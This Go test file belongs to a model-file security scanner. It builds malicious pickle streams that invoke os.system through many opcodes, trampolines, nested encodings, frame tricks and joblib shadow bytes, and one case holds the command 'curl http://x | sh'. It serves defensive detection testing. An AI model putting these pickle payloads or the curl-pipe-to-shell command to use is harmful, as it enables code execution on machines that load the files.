package picklefmt_test

// Adversarial test suite for the pickle analysis. Every malicious stream is
// assembled with pklasm; nothing is ever unpickled or executed.

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/modelscan-go/modelscan/internal/core"
	"github.com/modelscan-go/modelscan/internal/pklasm"
	"github.com/modelscan-go/modelscan/internal/rules"
)

type cmpKind int

const (
	exactly cmpKind = iota // max severity == sev
	atLeast                // max severity >= sev
	atMost                 // max severity <= sev
)

type attackCase struct {
	name   string
	data   []byte
	limits func(*core.Limits)
	// direct sends the blob straight to the pickle handler instead of the
	// formats registry (for streams no sniffer is expected to recognise).
	direct bool
	file   string // file name (default attack.pkl)

	cmp cmpKind
	sev core.Severity

	rule     string        // some finding carries this rule
	ruleSev  core.Severity // ... with at least this severity (0: any)
	module   string        // ... and this module (when set)
	evidence string        // some finding's evidence contains this

	wantErr string // some problem contains this
	noErr   bool   // no problems at all

	check func(r *reporter, s *core.Session)
	bug   string // known divergence: t.Skip("BUG: " + bug)
}

const pwned = "posix.system('echo pwned')"

func attackCases() []attackCase {
	var cs []attackCase

	// ---------------------------------------------------------------
	// Call opcodes, every protocol.
	for p := byte(0); p <= 5; p++ {
		a := proto(p)
		if p >= 4 {
			a.SG("posix", "system")
		} else {
			a.Global("posix", "system")
		}
		if p == 0 {
			a.Mark().String("echo pwned").Tuple()
		} else {
			a.Mark().Str("echo pwned").Tuple()
		}
		cs = append(cs, attackCase{
			name: fmt.Sprintf("REDUCE/proto%d", p), data: a.Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleDangerousImport, module: "posix", evidence: pwned,
		})
	}
	cs = append(cs,
		attackCase{name: "INST", data: pklasm.New().Mark().String("echo pwned").Inst("posix", "system").Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleDangerousImport, module: "posix", evidence: pwned},
		attackCase{name: "OBJ", data: pklasm.New().Proto(1).Mark().Global("posix", "system").Str("echo pwned").Obj().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleDangerousImport, module: "posix", evidence: pwned},
		attackCase{name: "NEWOBJ", data: pklasm.New().Proto(2).Global("posix", "system").Str("echo pwned").Tuple1().NewObj().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleDangerousImport, module: "posix", evidence: pwned},
		attackCase{name: "NEWOBJ_EX", data: pklasm.New().Proto(4).SG("posix", "system").Str("echo pwned").Tuple1().EmptyDict().NewObjEx().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleDangerousImport, module: "posix", evidence: pwned},
		attackCase{name: "BUILD-injected __setstate__",
			data: pklasm.New().Proto(2).Global("types", "SimpleNamespace").EmptyTuple().Reduce().
				EmptyDict().Str("__setstate__").Global("posix", "system").SetItem().Build().
				Str("echo pwned").Build().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleDunderState, ruleSev: core.Critical, evidence: pwned},
	)

	// ---------------------------------------------------------------
	// Name resolution.
	cs = append(cs,
		attackCase{name: "names/__builtin__.eval proto2",
			data: pklasm.New().Proto(2).Global("__builtin__", "eval").Str("1+1").Tuple1().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleDangerousImport, module: "__builtin__", evidence: "__builtin__.eval('1+1')"},
		attackCase{name: "names/commands.getoutput (fix_imports -> subprocess)",
			data: pklasm.New().Proto(2).Global("commands", "getoutput").Str("id").Tuple1().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleDangerousImport, module: "commands", evidence: "commands.getoutput('id')"},
		attackCase{name: "names/commands.getoutput import only resolves to subprocess",
			data: pklasm.New().Proto(2).Global("commands", "getoutput").Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleDangerousImport, evidence: "resolves to subprocess.getoutput"},
		attackCase{name: "names/nt.system",
			data: pklasm.New().Proto(2).Global("nt", "system").Str("calc.exe").Tuple1().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleDangerousImport, module: "nt", evidence: "nt.system('calc.exe')"},
		attackCase{name: "names/_operator.attrgetter import",
			data: pklasm.New().Proto(2).Global("_operator", "attrgetter").Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleTrampoline, module: "_operator"},
		attackCase{name: "names/_operator.attrgetter('system')(posix module) via __import__",
			data: pklasm.New().Proto(2).Global("_operator", "attrgetter").Str("system").Tuple1().Reduce().
				Global("importlib", "import_module").Str("posix").Tuple1().Reduce().Tuple1().Reduce().
				Str("id").Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleTrampoline, module: "_operator"},
		attackCase{name: "names/proto4 dotted ('pathlib','os.system')",
			data: pklasm.New().Proto(4).SG("pathlib", "os.system").Str("id").Tuple1().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleDangerousImport, module: "pathlib", evidence: "pathlib.os.system('id')"},
		attackCase{name: "names/STACK_GLOBAL builtins.getattr import",
			data: pklasm.New().Proto(4).SG("builtins", "getattr").Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleTrampoline, module: "builtins"},
		attackCase{name: "names/copy_reg._reconstructor is allowlisted",
			data: pklasm.New().Proto(2).Global("copy_reg", "_reconstructor").
				Global("collections", "OrderedDict").Global("__builtin__", "object").None().Tuple3().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.SeverityNone, noErr: true},
		attackCase{name: "names/cPickle.loads",
			data: pklasm.New().Proto(2).Global("cPickle", "loads").BinBytes(pklasm.New().Proto(2).None().Stop().Bytes()).Tuple1().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleDangerousImport, module: "cPickle"},
	)

	// ---------------------------------------------------------------
	// Unresolvable imports.
	cs = append(cs,
		attackCase{name: "unresolved/STACK_GLOBAL module is a call result",
			data: pklasm.New().Proto(4).SG("builtins", "str").Str("os").Tuple1().Reduce().
				Str("system").StackGlobal().Str("id").Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleUnresolvedImport, ruleSev: core.Critical, module: "unknown"},
		attackCase{name: "unresolved/STACK_GLOBAL operand from a memo slot holding a computed value",
			data: pklasm.New().Proto(4).SG("builtins", "str").Str("posix").Tuple1().Reduce().BinPut(7).Pop().
				Str("pad").Pop().
				BinGet(7).Str("system").StackGlobal().Str("id").Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleUnresolvedImport, ruleSev: core.Critical, module: "unknown"},
		attackCase{name: "unresolved/STACK_GLOBAL name from a memo slot holding a computed value",
			data: pklasm.New().Proto(4).SG("builtins", "str").Str("system").Tuple1().Reduce().Memoize().Pop().
				Str("os").BinGet(0).StackGlobal().Str("id").Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleUnresolvedImport, ruleSev: core.Critical, module: "unknown"},
		// CPython refuses the load there, but a non-string operand (also one
		// fetched from the memo) is reported: no real pickle does it
		attackCase{name: "unresolved/STACK_GLOBAL literal int operand fails",
			data: pklasm.New().Proto(4).Int(1).Str("system").StackGlobal().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleUnresolvedImport, wantErr: "STACK_GLOBAL requires str"},
		attackCase{name: "unresolved/STACK_GLOBAL memo slot holding a tuple",
			data: pklasm.New().Proto(4).EmptyTuple().Memoize().Pop().BinGet(0).Str("system").StackGlobal().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleUnresolvedImport, wantErr: "STACK_GLOBAL requires str"},
	)

	// ---------------------------------------------------------------
	// Trampolines.
	importOS := func(a *pklasm.A) *pklasm.A {
		return a.Global("builtins", "__import__").Str("os").Tuple1().Reduce()
	}
	cs = append(cs,
		attackCase{name: "tramp/getattr(__import__('os'),'system')('id')",
			data: importOS(pklasm.New().Proto(2).Global("builtins", "getattr")).Str("system").Tuple2().Reduce().
				Str("id").Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleTrampoline, ruleSev: core.Critical, evidence: "reaches os.system"},
		attackCase{name: "tramp/getattr(importlib.import_module('subprocess'),'getoutput')('id')",
			data: pklasm.New().Proto(2).Global("builtins", "getattr").
				Global("importlib", "import_module").Str("subprocess").Tuple1().Reduce().
				Str("getoutput").Tuple2().Reduce().Str("id").Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleTrampoline, ruleSev: core.Critical, evidence: "subprocess.getoutput"},
		attackCase{name: "tramp/operator.methodcaller('system','id')(__import__('os'))",
			data: importOS(pklasm.New().Proto(2).Global("operator", "methodcaller").Str("system").Str("id").Tuple2().Reduce()).
				Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleTrampoline, ruleSev: core.Critical, module: "operator"},
		attackCase{name: "tramp/operator.methodcaller('system','id')(importlib.import_module('os')) (no denylisted import but the module)",
			data: pklasm.New().Proto(2).Global("operator", "methodcaller").Str("system").Str("id").Tuple2().Reduce().
				Global("importlib", "import_module").Str("os").Tuple1().Reduce().Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleTrampoline, ruleSev: core.Critical, module: "operator"},
		attackCase{name: "tramp/operator.attrgetter('system')(__import__('os'))('id')",
			data: importOS(pklasm.New().Proto(2).Global("operator", "attrgetter").Str("system").Tuple1().Reduce()).
				Tuple1().Reduce().Str("id").Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleTrampoline, ruleSev: core.Critical, module: "operator"},
		attackCase{name: "tramp/functools.partial(posix.system,'id')()",
			data: pklasm.New().Proto(2).Global("functools", "partial").Global("posix", "system").Str("id").Tuple2().Reduce().
				EmptyTuple().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleTrampoline, ruleSev: core.Critical, module: "functools"},
		attackCase{name: "tramp/functools.partial(builtins.int, base=2)('101') via BUILD state",
			// partial pickles as partial(int) + BUILD (func, args, kwds, dict)
			data: pklasm.New().Proto(2).Global("functools", "partial").Global("builtins", "int").Tuple1().Reduce().
				Mark().Global("builtins", "int").EmptyTuple().EmptyDict().Str("base").Int(2).SetItem().None().Tuple().Build().
				Str("101").Tuple1().Reduce().Stop().Bytes(),
			cmp: atMost, sev: core.Medium},
		attackCase{name: "tramp/getattr(collections.OrderedDict,'fromkeys') read only",
			data: pklasm.New().Proto(2).Global("builtins", "getattr").Global("collections", "OrderedDict").Str("fromkeys").Tuple2().Reduce().Stop().Bytes(),
			cmp:  atMost, sev: core.Medium},
		attackCase{name: "tramp/getattr(collections.OrderedDict,'__globals__')",
			data: pklasm.New().Proto(2).Global("builtins", "getattr").Global("collections", "OrderedDict").Str("__globals__").Tuple2().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleTrampoline, ruleSev: core.Critical, evidence: "__globals__"},
		attackCase{name: "tramp/getattr(collections.OrderedDict, <computed name>)",
			data: pklasm.New().Proto(2).Global("builtins", "getattr").Global("collections", "OrderedDict").
				Global("builtins", "str").Str("fromkeys").Tuple1().Reduce().Tuple2().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleTrampoline, ruleSev: core.Critical},
		attackCase{name: "tramp/pydoc.locate('os.system')('id')",
			data: pklasm.New().Proto(2).Global("pydoc", "locate").Str("os.system").Tuple1().Reduce().Str("id").Tuple1().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleTrampoline, ruleSev: core.Critical, evidence: "os.system"},
		attackCase{name: "tramp/pkgutil.resolve_name('os:system')('id')",
			data: pklasm.New().Proto(2).Global("pkgutil", "resolve_name").Str("os:system").Tuple1().Reduce().Str("id").Tuple1().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleTrampoline, ruleSev: core.Critical, evidence: "os.system"},
	)
	cs = append(cs,
		attackCase{name: "tramp/functools.partial(builtins.int, base=2)('101') via NEWOBJ_EX",
			data: pklasm.New().Proto(4).SG("functools", "partial").SG("builtins", "int").Tuple1().
				EmptyDict().Str("base").Int(2).SetItem().NewObjEx().Str("101").Tuple1().Reduce().Stop().Bytes(),
			cmp: atMost, sev: core.Medium},
	)

	// ---------------------------------------------------------------
	// Mutation of imported objects.
	cs = append(cs,
		attackCase{name: "mutation/BUILD torch._utils {'_rebuild_tensor': builtins.eval}",
			data: pklasm.New().Proto(4).SG("torch", "_utils").None().EmptyDict().
				Str("_rebuild_tensor").SG("builtins", "eval").SetItem().Tuple2().Build().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleGlobalMutation, ruleSev: core.Critical, module: "torch"},
		attackCase{name: "mutation/BUILD plain dict state on allowlisted class",
			data: pklasm.New().Proto(2).Global("collections", "OrderedDict").EmptyDict().
				Str("fromkeys").Global("collections", "OrderedDict").SetItem().Build().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleGlobalMutation, ruleSev: core.Critical, module: "collections"},
		attackCase{name: "mutation/SETITEMS on a global",
			data: pklasm.New().Proto(2).Global("collections", "OrderedDict").Mark().Str("x").Int(1).Str("y").Int(2).SetItems().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleGlobalMutation, ruleSev: core.Critical, module: "collections"},
		attackCase{name: "mutation/SETITEM on a global",
			data: pklasm.New().Proto(2).Global("collections", "OrderedDict").Str("x").Int(1).SetItem().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleGlobalMutation, ruleSev: core.Critical, module: "collections"},
		attackCase{name: "mutation/APPENDS on a global",
			data: pklasm.New().Proto(2).Global("collections", "OrderedDict").Mark().Str("x").Str("y").Appends().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleGlobalMutation, ruleSev: core.Critical, module: "collections"},
		attackCase{name: "mutation/APPEND on a global",
			data: pklasm.New().Proto(2).Global("collections", "OrderedDict").Str("x").Append().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, rule: rules.PickleGlobalMutation, ruleSev: core.Critical, module: "collections"},
	)

	// ---------------------------------------------------------------
	// Extension registry.
	cs = append(cs,
		attackCase{name: "ext/add_extension then EXT1 call",
			data: pklasm.New().Proto(2).
				Global("copyreg", "add_extension").Str("os").Str("system").Int(240).Tuple3().Reduce().Pop().
				Ext1(240).Str("id").Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleDangerousImport, module: "os", evidence: "os.system('id')"},
		attackCase{name: "ext/unregistered EXT2",
			data: pklasm.New().Proto(2).Ext2(999).EmptyTuple().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.High, rule: rules.PickleExtension, ruleSev: core.High},
		attackCase{name: "ext/unregistered EXT4 not called",
			data: pklasm.New().Proto(2).Ext4(70000).Stop().Bytes(),
			cmp:  exactly, sev: core.High, rule: rules.PickleExtension, ruleSev: core.High},
	)

	// ---------------------------------------------------------------
	// Nested pickles.
	sys := pklasm.System("echo pwned")
	innerPwned := innerCritical("posix", pwned)
	cs = append(cs,
		attackCase{name: "nested/_pickle.loads(raw bytes)", data: loadsOf(sys),
			cmp: exactly, sev: core.Critical, check: innerPwned},
		attackCase{name: "nested/_pickle.loads(base64.b64decode(str))",
			data: pklasm.New().Proto(2).Global("_pickle", "loads").
				Global("base64", "b64decode").Str(b64(sys)).Tuple1().Reduce().Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, check: innerPwned},
		attackCase{name: "nested/_pickle.loads(codecs.decode(hex,'hex'))",
			data: pklasm.New().Proto(2).Global("_pickle", "loads").
				Global("codecs", "decode").Str(hexStr(sys)).Str("hex").Tuple2().Reduce().Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, check: innerPwned},
		attackCase{name: "nested/_pickle.loads(zlib.decompress(bytes))",
			data: pklasm.New().Proto(2).Global("_pickle", "loads").
				Global("zlib", "decompress").BinBytes(zlibBytes(sys)).Tuple1().Reduce().Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, check: innerPwned},
		attackCase{name: "nested/pickle.loads(codecs.encode(latin1 str,'latin1'))",
			data: pklasm.New().Proto(2).Global("pickle", "loads").
				Global("_codecs", "encode").Str(string(latin1Runes(sys))).Str("latin1").Tuple2().Reduce().Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, check: innerPwned},
	)
	for _, enc := range []string{"raw", "base64", "hex"} {
		inner := execPickle()
		a := pklasm.New().Proto(4).EmptyDict().Str("weights")
		switch enc {
		case "raw":
			a.BinBytes(inner)
		case "base64":
			a.Str(b64(inner))
		case "hex":
			a.Str(hexStr(inner))
		}
		cs = append(cs, attackCase{name: "nested/dormant " + enc + " literal", data: a.SetItem().Stop().Bytes(),
			cmp: exactly, sev: core.High, rule: rules.PickleEmbedded, ruleSev: core.Medium,
			check: func(r *reporter, s *core.Session) {
				fs := findingsWhere(s, rules.PickleDangerousImport, "builtins", "")
				if len(fs) == 0 {
					r.Errorf("inner builtins.exec finding missing")
				}
				for _, f := range fs {
					if f.Severity != core.High || !strings.Contains(f.Description, "dormant") || !strings.Contains(f.Source, enc+"-literal@") {
						r.Errorf("inner finding not lowered/dormant: %+v", f)
					}
				}
			}})
	}
	{
		deep := sys
		for i := 0; i < core.DefaultLimits().MaxDepth+2; i++ {
			deep = loadsOf(deep)
		}
		cs = append(cs, attackCase{name: "nested/deeper than MaxDepth", data: deep,
			cmp: exactly, sev: core.Critical, rule: rules.ScanIncomplete, ruleSev: core.Medium, wantErr: "nesting depth"})
	}

	// ---------------------------------------------------------------
	// Several pickles in one stream.
	benign := pklasm.New().Proto(2).None().Stop().Bytes()
	cat := func(ps ...[]byte) []byte { return bytes.Join(ps, nil) }
	truncated := pklasm.New().Proto(2).Global("posix", "system").Str("echo pwned").Tuple1().Reduce().Bytes()
	badOp := append(append([]byte{}, truncated...), 0xff)
	cs = append(cs,
		attackCase{name: "multi/benign then malicious", data: cat(benign, sys),
			cmp: exactly, sev: core.Critical, evidence: pwned, noErr: true},
		attackCase{name: "multi/payload then garbage", data: cat(sys, []byte{0xff, 0x13, 0x37, 'x'}),
			cmp: exactly, sev: core.Critical, evidence: pwned, rule: rules.PickleTrailingData, noErr: true,
			check: func(r *reporter, s *core.Session) {
				for _, f := range findingsWhere(s, rules.PickleTrailingData, "", "") {
					if f.Severity != core.Low {
						r.Errorf("trailing note severity %s", f.Severity)
					}
				}
			}},
		attackCase{name: "multi/payload then invalid opcode 0xff", data: badOp,
			cmp: exactly, sev: core.Critical, evidence: pwned, wantErr: fmt.Sprintf("offset %d", len(badOp)-1)},
		attackCase{name: "multi/truncated payload", data: truncated,
			cmp: exactly, sev: core.Critical, evidence: pwned, wantErr: "STOP"},
		attackCase{name: "multi/benign, malicious, garbage", data: cat(benign, benign, sys, []byte("\x00garbage")),
			cmp: exactly, sev: core.Critical, evidence: pwned, noErr: true},
	)

	// ---------------------------------------------------------------
	// Frames.
	{
		hidden := pklasm.New().Global("os", "system").Unicode("echo pwned").Tuple1().Reduce().Bytes()
		a := pklasm.New().Proto(5).Frame(2).Raw('B', byte(len(hidden)+1)).Raw(1, 0, 0, 0, 0)
		a.Raw(hidden...)
		a.Raw(make([]byte, 300)...)
		p := a.Raw('0', '.').Bytes()
		cs = append(cs, attackCase{name: "frames/FRAME-BINBYTES divergence", data: p,
			cmp: exactly, sev: core.Critical, rule: rules.PickleDangerousImport, module: "os", evidence: "os.system('echo pwned')"})

		body := pklasm.New().SG("nt", "system").Str("id").Tuple1().Reduce().Stop().Bytes()
		q := pklasm.New().Proto(4).Frame(len(body) + 1000).Raw(body...).Bytes()
		cs = append(cs, attackCase{name: "frames/FRAME longer than the data around nt.system", data: q,
			cmp: exactly, sev: core.Critical, module: "nt", rule: rules.PickleDangerousImport})

		// a FRAME inside an unfinished frame: pickle.loads ignores it, the
		// pure-Python unpickler fails
		r := pklasm.New().Proto(4).Frame(9 + len(body)).Frame(len(body)).Raw(body...).Bytes()
		cs = append(cs, attackCase{name: "frames/nested FRAME around nt.system", data: r,
			cmp: exactly, sev: core.Critical, module: "nt", rule: rules.PickleDangerousImport})
	}

	// ---------------------------------------------------------------
	// Budgets.
	{
		a := pklasm.New().Proto(2).EmptyList()
		for i := 0; i < 1_000_000; i++ {
			a.None().Append()
		}
		cs = append(cs, attackCase{name: "budget/2M opcodes, MaxOpcodes=1000", data: a.Stop().Bytes(),
			limits: func(l *core.Limits) { l.MaxOpcodes = 1000 },
			cmp:    exactly, sev: core.Medium, rule: rules.ScanIncomplete, ruleSev: core.Medium, wantErr: "max_opcodes"})

		b := pklasm.New().Proto(2).Global("posix", "system").Str("x").Tuple1().Reduce()
		for i := 0; i < 5000; i++ {
			b.Mark()
		}
		cs = append(cs, attackCase{name: "budget/MARK nesting beyond MaxStack=1000 after payload", data: b.Stop().Bytes(),
			limits: func(l *core.Limits) { l.MaxStack = 1000 },
			cmp:    exactly, sev: core.Critical, rule: rules.ScanIncomplete, ruleSev: core.Medium, wantErr: "max_stack"})

		lim := core.DefaultLimits().MaxStack
		c := pklasm.New().Proto(2).Raw(bytes.Repeat([]byte{'('}, lim+10)...).Stop()
		cs = append(cs, attackCase{name: "budget/MARK nesting beyond default MaxStack", data: c.Bytes(),
			cmp: exactly, sev: core.Medium, rule: rules.ScanIncomplete, ruleSev: core.Medium, wantErr: "max_stack"})

		d := pklasm.New().Proto(2).None()
		for i := 0; i < 2000; i++ {
			d.LongBinPut(i * 7)
		}
		cs = append(cs, attackCase{name: "budget/memo beyond MaxMemo=100", data: d.Stop().Bytes(),
			limits: func(l *core.Limits) { l.MaxMemo = 100 },
			cmp:    exactly, sev: core.Medium, rule: rules.ScanIncomplete, wantErr: "max_memo"})
	}

	// ---------------------------------------------------------------
	// Unknown callables.
	cs = append(cs,
		attackCase{name: "unknown/mypkg.run('curl http://x | sh')",
			data: pklasm.New().Proto(2).Global("mypkg", "run").Str("curl http://x | sh").Tuple1().Reduce().Stop().Bytes(),
			cmp:  atLeast, sev: core.High, rule: rules.PickleSuspiciousCall, ruleSev: core.High, module: "mypkg"},
		attackCase{name: "unknown/mypkg.Model('resnet', 3)",
			data: pklasm.New().Proto(2).Global("mypkg", "Model").Str("resnet").Int(3).Tuple2().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.Medium, rule: rules.PickleUnknownImport, module: "mypkg"},
		attackCase{name: "unknown/__main__.Net()",
			data: pklasm.New().Proto(2).Global("__main__", "Net").EmptyTuple().NewObj().EmptyDict().Build().Stop().Bytes(),
			cmp:  exactly, sev: core.Medium, rule: rules.PickleUnknownImport, module: "__main__"},
	)

	// ---------------------------------------------------------------
	// joblib: array bytes that pickle.load would execute as opcodes.
	cs = append(cs, attackCase{name: "joblib/shadow opcodes in NumpyArrayWrapper data", data: joblibShadow(),
		cmp: atLeast, sev: core.High, module: "os", evidence: "os.system('id')"})

	cs = append(cs, extraCases()...)
	return cs
}

// latin1Runes maps bytes 1:1 to runes (what codecs.encode(s, 'latin1') undoes).
func latin1Runes(p []byte) []rune {
	r := make([]rune, len(p))
	for i, b := range p {
		r[i] = rune(b)
	}
	return r
}

// joblibShadow builds a joblib-style stream: a NumpyArrayWrapper for a
// float64 array of shape (16,) (128 bytes of raw data follow the BUILD).
// The 128 bytes are valid pickle opcodes that call os.system('id'), so
// pickle.load (not joblib.load) runs them.
func joblibShadow() []byte {
	shadow := []byte("cos\nsystem\n(S'id'\ntR")
	shadow = append(shadow, bytes.Repeat([]byte{'N'}, 128-len(shadow))...)
	a := pklasm.New().Proto(4).
		SG("joblib.numpy_pickle", "NumpyArrayWrapper").EmptyTuple().NewObj().
		EmptyDict().Mark().
		Str("subclass").SG("numpy", "ndarray").
		Str("shape").Int(16).Tuple1().
		Str("order").Str("C").
		Str("dtype").SG("numpy", "dtype").Str("f8").Bool(false).Bool(true).Tuple3().Reduce().
		Mark().Int(3).Str("<").None().None().None().Int(-1).Int(-1).Int(0).Tuple().Build().
		Str("allow_mmap").Bool(false).
		SetItems().Build()
	a.Raw(shadow...)
	return a.Stop().Bytes()
}

// reporter collects check failures so a case with a known bug can be
// skipped with what was observed instead of failing.
type reporter struct{ msgs []string }

func (r *reporter) Errorf(format string, args ...any) {
	r.msgs = append(r.msgs, fmt.Sprintf(format, args...))
}

// checkCase runs one case and returns the failed expectations.
func checkCase(t *testing.T, c attackCase) (*core.Session, []string) {
	t.Helper()
	r := &reporter{}
	if len(c.data) == 0 {
		t.Fatal("empty test stream")
	}
	lim := core.DefaultLimits()
	if c.limits != nil {
		c.limits(&lim)
	}
	file := c.file
	if file == "" {
		file = "attack.pkl"
	}
	var s *core.Session
	if c.direct {
		s = scanPickle(t, file, c.data, lim)
	} else {
		s = scanRegistry(t, file, c.data, lim)
	}
	if len(s.Skips) > 0 {
		r.Errorf("stream was skipped, not scanned")
	}
	got := maxSeverity(s)
	switch c.cmp {
	case exactly:
		if got != c.sev {
			r.Errorf("max severity %s, want %s", got, c.sev)
		}
	case atLeast:
		if got < c.sev {
			r.Errorf("max severity %s, want at least %s", got, c.sev)
		}
	case atMost:
		if got > c.sev {
			r.Errorf("max severity %s, want at most %s", got, c.sev)
		}
	}
	if c.rule != "" {
		ok := false
		for _, f := range findingsWhere(s, c.rule, c.module, "") {
			if f.Severity >= c.ruleSev {
				ok = true
			}
		}
		if !ok {
			r.Errorf("no %s finding (module %q, severity >= %s)", c.rule, c.module, c.ruleSev)
		}
	} else if c.module != "" && len(findingsWhere(s, "", c.module, "")) == 0 {
		r.Errorf("no finding with module %q", c.module)
	}
	if c.evidence != "" && len(findingsWhere(s, "", "", c.evidence)) == 0 {
		r.Errorf("no finding with evidence containing %q", c.evidence)
	}
	if c.wantErr != "" && !problemWith(s, c.wantErr) {
		r.Errorf("no problem containing %q", c.wantErr)
	}
	if c.noErr && len(s.Problems) > 0 {
		r.Errorf("unexpected problems")
	}
	if c.check != nil {
		c.check(r, s)
	}
	return s, r.msgs
}

// TestAttacks runs the catalogue. A case with a known bug that still
// fails is skipped with "BUG:" and the observed result; once it passes
// the note is logged so it can be dropped.
func TestAttacks(t *testing.T) {
	for _, c := range attackCases() {
		c := c
		t.Run(c.name, func(t *testing.T) {
			s, fails := checkCase(t, c)
			switch {
			case len(fails) > 0 && c.bug != "":
				t.Skipf("BUG: %s\n  unmet: %s\n  observed: %s", c.bug, strings.Join(fails, "; "), dump(s))
			case len(fails) > 0:
				t.Errorf("%s\n%s", strings.Join(fails, "\n"), dump(s))
			case c.bug != "":
				t.Logf("known bug no longer reproduces, drop the note: %s", c.bug)
			}
		})
	}
}

// TestAttacksDirectHandler runs the critical cases straight through the
// pickle handler too, so a registry sniffing regression and a handler
// regression are told apart.
func TestAttacksDirectHandler(t *testing.T) {
	for _, c := range attackCases() {
		if c.bug != "" || c.cmp != exactly || c.sev != core.Critical || c.limits != nil {
			continue
		}
		c := c
		t.Run(c.name, func(t *testing.T) {
			s := scanPickle(t, "attack.pkl", c.data, core.DefaultLimits())
			if got := maxSeverity(s); got != core.Critical {
				t.Errorf("max severity %s, want CRITICAL\n%s", got, dump(s))
			}
		})
	}
}
